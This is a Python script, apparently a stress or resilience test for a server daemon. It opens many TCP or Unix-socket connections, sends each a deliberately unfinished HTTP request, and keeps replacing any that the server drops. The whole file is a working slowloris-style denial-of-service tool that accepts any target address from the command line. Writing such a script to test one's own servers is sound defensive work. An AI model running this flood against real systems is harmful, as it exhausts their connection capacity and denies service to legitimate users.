"""Opens many connections with half a request and replaces each that the daemon closes.

Run as `python3 flood.py COUNT FAMILY ADDRESS [PORT]` by any interpreter. Prints the number of live
connections after each round.
"""

import socket
import sys
import time

HALF_HEAD = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Padding: "


def connect(family: str, address: tuple[str, ...]) -> socket.socket:
    connection = socket.socket(getattr(socket, family), socket.SOCK_STREAM)
    connection.settimeout(5)
    connection.connect(address[0] if family == "AF_UNIX" else (address[0], int(address[1])))
    connection.sendall(HALF_HEAD)
    connection.setblocking(False)
    return connection


def is_open(connection: socket.socket) -> bool:
    try:
        return bool(connection.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


def main(count: int, family: str, *address: str) -> None:
    connections: list[socket.socket] = []
    while True:
        for connection in [c for c in connections if not is_open(c)]:
            connection.close()
            connections.remove(connection)
        while len(connections) < count:
            try:
                connections.append(connect(family, address))
            except OSError:
                break
        print(len(connections), flush=True)
        time.sleep(0.1)


if __name__ == "__main__":
    main(int(sys.argv[1]), *sys.argv[2:])
